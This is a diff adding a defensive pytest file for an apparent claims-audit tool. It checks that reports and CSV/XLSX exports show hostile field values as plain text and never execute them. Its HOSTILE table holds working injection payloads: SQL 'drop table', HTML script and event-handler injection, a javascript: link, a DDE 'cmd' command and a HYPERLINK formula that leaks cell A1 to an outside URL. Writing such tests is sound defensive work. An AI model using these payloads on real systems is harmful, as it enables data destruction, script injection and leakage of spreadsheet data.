@@ -1,0 +1,123 @@
+"""Text of claims and of a plan's tables is shown and never run: no SQL, no element or script of it, no formula."""
+
+from __future__ import annotations
+
+import csv
+from html.parser import HTMLParser
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from audit_lib.claims.layouts import contract_columns
+from audit_lib.cli import main
+from audit_lib.handout.safe_text import begins_like_formula
+from audit_lib.reports.render import render_reports
+
+HOSTILE = {
+    "sql": "'; drop table claim_lines; --",
+    "script": "</script></style></textarea><script>zqran()</script><zqtag>",
+    "attribute": '"><img src=x onerror=zqran()><zqtag x="',
+    "apostrophe": "' onmouseover='zqran()' zqattr='",
+    "formula": '=HYPERLINK("http://example.org/?"&A1,"zqtag")',
+    "command": "@SUM(1+1)*cmd|' /C calc'!A0<zqtag>",
+    "markdown": "[zqtag](javascript:zqran()) `<zqtag>` $$\\href{javascript:zqran()}{x}$$",
+    "template": "{{ zqran() }}{% raw %}<zqtag>",
+}
+TEXTS = [c.name for c in contract_columns() if c.kind in ("identifier", "text", "word")]
+NEEDED = ["claim_line_number", "claim_line_start_date", "hcpcs_code", "service_unit_quantity", "paid_amount"]
+NAMES = [*TEXTS, *NEEDED, "billing_tin", "ndc_code", "diagnosis_code_1", "rendering_npi"]
+
+
+def _lines(text: str) -> list[dict[str, str]]:
+    """A per diem and a supply of it, with the text wherever text may stand."""
+    line = {**dict.fromkeys(NAMES, text), "claim_line_start_date": "2025-08-04", "service_unit_quantity": "1"}
+    line |= {"original_claim_id": "", "line_of_business": "commercial"}
+    codes = {"1": ("S9500", "90.00"), "2": ("A4222", "200.00"), "3": (text, "5.00")}
+    return [
+        {**line, "claim_line_number": n, "hcpcs_code": code, "paid_amount": paid} for n, (code, paid) in codes.items()
+    ]
+
+
+@pytest.fixture(scope="module")
+def run_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    place = tmp_path_factory.mktemp("hostile")
+    rows = [row for text in HOSTILE.values() for row in _lines(text)]
+    _write(place / "claims.csv", rows)
+    names = [{"provider_id": row["billing_tin"], "name": row["claim_id"], "specialty": row["claim_id"]} for row in rows]
+    _write(place / "providers.csv", [row for n, row in enumerate(names) if row not in names[:n]])
+    (place / "settings.yml").write_text("providers: providers.csv\n", "utf-8")
+    words = ["run", "--claims", place / "claims.csv", "--out", place, "--run-id", "r", "--no-reports", "--no-quality"]
+    assert main([*map(str, words), "--config", str(place / "settings.yml")]) == 0
+    return place / "r"
+
+
+def _write(path: Path, rows: list[dict[str, str]]) -> None:
+    with path.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.DictWriter(file, list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+class _Elements(HTMLParser):
+    """Notes every element and attribute that came from the data."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.foreign: list[str] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        names = [name for name, _ in attrs]
+        if tag.startswith("zq") or any(name.startswith(("zq", "on")) for name in names):
+            self.foreign.append(f"{tag} {names}")
+        if any("javascript:" in (value or "") for name, value in attrs if name in ("href", "src", "action")):
+            self.foreign.append(f"{tag} with a script for an address")
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+        if self.cdata_elem == "script" and data.lstrip().startswith("zqran"):
+            self.foreign.append("script")
+
+
+def _parsed(page: str) -> _Elements:
+    parser = _Elements()
+    parser.feed(page)
+    parser.close()
+    return parser
+
+
+@pytest.mark.parametrize("kind", ["script", "attribute", "apostrophe"])
+def test_what_the_parser_looks_for_it_would_find(kind: str) -> None:
+    assert _parsed(f"<p title='{HOSTILE[kind]}'>{HOSTILE[kind]}</p>").foreign
+
+
+@pytest.mark.notebook
+def test_reports_show_it_and_run_none_of_it(run_folder: Path) -> None:
+    pages = render_reports(run_folder, ["03_overpayment_exposure", "07_claim_evidence"])
+    for page in pages:
+        parsed = _parsed(page.read_text("utf-8"))
+        assert parsed.foreign == [], page.name
+        assert "zqran()" in parsed.text or "drop table" in parsed.text or "HYPERLINK" in parsed.text, page.name
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_exports_hold_it_as_text(run_folder: Path, tmp_path: Path, file_format: str) -> None:
+    words = ["export", str(run_folder), "--out", str(tmp_path / "out"), "--with-review", "--format", file_format]
+    assert main(words) == 0
+    files = [path for path in (tmp_path / "out").rglob(f"*.{file_format}") if path.is_file()]
+    assert files and all(path.resolve().is_relative_to(tmp_path) for path in files)
+    if file_format == "csv":
+        cells = [cell for path in files for row in csv.reader(path.open(newline="")) for cell in row]
+        assert not [cell for cell in cells if begins_like_formula(cell) and not _is_number(cell)]
+    else:
+        cells = [cell for path in files for sheet in openpyxl.load_workbook(path) for row in sheet for cell in row]
+        formulas = [cell.value for cell in cells if cell.data_type == "f"]
+        assert [text for text in formulas if not str(text).startswith("=SUBTOTAL(")] == []
+        assert [cell for cell in cells if cell.hyperlink and "zqtag" in str(cell.hyperlink.target)] == []
+        cells = [str(cell.value) for cell in cells]
+    assert any("HYPERLINK" in cell for cell in cells)
+
+
+def _is_number(text: str) -> bool:
+    return text.lstrip("-").replace(".", "", 1).isdigit()
